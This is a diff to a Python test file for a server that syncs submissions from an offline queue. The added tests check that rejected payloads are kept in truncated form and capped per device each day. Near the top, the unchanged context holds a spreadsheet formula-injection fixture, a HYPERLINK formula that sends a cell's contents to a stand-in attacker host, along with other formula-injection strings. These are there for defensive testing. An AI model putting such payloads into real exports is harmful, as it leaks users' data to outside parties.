@@ -12,10 +12,11 @@ from sqlalchemy import select
 from server import auth as auth_module
 from server.auth import create_user
 from server.extensions import db
-from server.models import AuditEvent
+from offline_queue.kept import KEEP_STRING_CHARS
+from server.models import AuditEvent, RejectedPayload, Submission
 from server.reconcile import run_reconciliation
 from tests.conftest import PASSWORD, add_member
-from tests.sync_support import add_registry
+from tests.sync_support import add_registry, item, post_items, stored_photo
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&E2,"Bấm để xem")'
 NASTY_TEXTS = [LEAK, "\t=1+1", "+1+1", "-2+3", "@SUM(1)", "\r=1+1", "=1"]
@@ -119,3 +120,48 @@ def test_concurrent_wrong_passwords_reach_the_hash_no_more_than_the_limit(app, t
         statuses = sorted(pool.map(attempt, range(40)))
     assert statuses == [401] * 10 + [429] * 30
     assert len(hashes) == 10
+
+
+# ---- 4. what is kept of rejected items is bounded ------------------------------------------------------
+
+def _kept():
+    db.session.expire_all()
+    return db.session.scalars(select(RejectedPayload).order_by(RejectedPayload.id)).all()
+
+
+def test_an_item_no_field_could_ever_hold_refuses_the_envelope_and_keeps_nothing(login_as, members):
+    officer = login_as("officer", "C1")
+    good = item(stored_photo(), member_id=members["m1"].id)
+    huge = item(stored_photo(), member_id=members["m1"].id, fields={"full_name": "A" * 400_000})
+    response = post_items(officer, [good, huge])
+    assert response.status_code == 413 and response.json["error"]["code"] == "item_too_large"
+    assert list(response.json["error"]["fields"]) == ["items.1"]
+    assert _kept() == [] and db.session.query(Submission).count() == 0
+
+
+def test_a_rejected_item_is_kept_cut_to_its_bounds_and_marked(login_as, members):
+    officer = login_as("officer", "C1")
+    long_name = "Nguyễn " * 300  # 2,100 characters: too long, yet under the never-valid bound
+    typed = item(stored_photo(), member_id=members["m1"].id, fields={"full_name": long_name})
+    normal = item(stored_photo(), member_id=members["m1"].id, consent=False)
+    results = post_items(officer, [typed, normal]).json["results"]
+    assert [r["outcome"] for r in results] == ["rejected", "rejected"]
+    cut, whole = _kept()
+    assert cut.truncated and cut.payload["fields"]["full_name"] == long_name[:KEEP_STRING_CHARS]
+    assert cut.payload["client_id"] == typed["client_id"] and cut.payload["fields"]["hometown"] == "Hà Nội"
+    assert not whole.truncated and whole.payload == normal  # what fits is kept exactly as received
+    assert 0 < whole.kept_bytes < 2000
+
+
+def test_a_device_keeps_a_bounded_amount_a_day_then_only_the_reasons(login_as, members, monkeypatch):
+    monkeypatch.setattr("offline_queue.kept.KEEP_BYTES_PER_DEVICE_DAY", 1000)
+    officer = login_as("officer", "C1")
+    bad = [item(stored_photo(), member_id=members["m1"].id, consent=False) for _ in range(4)]
+    assert [r["outcome"] for r in post_items(officer, bad).json["results"]] == ["rejected"] * 4
+    rows = _kept()
+    assert rows[0].payload == bad[0] and rows[0].kept_bytes > 300  # the first ones whole
+    assert rows[-1].payload == {} and rows[-1].truncated and rows[-1].client_id == bad[-1]["client_id"]
+    assert rows[-1].errors == [{"field": "consent", "code": "consent_required", "params": {}}]
+    assert sum(row.kept_bytes for row in rows) <= 1000
+    other_device = post_items(officer, [item(stored_photo(), consent=False)], device_id="made-up-2")
+    assert other_device.status_code == 200 and _kept()[-1].payload == {}  # a new device id is no way round
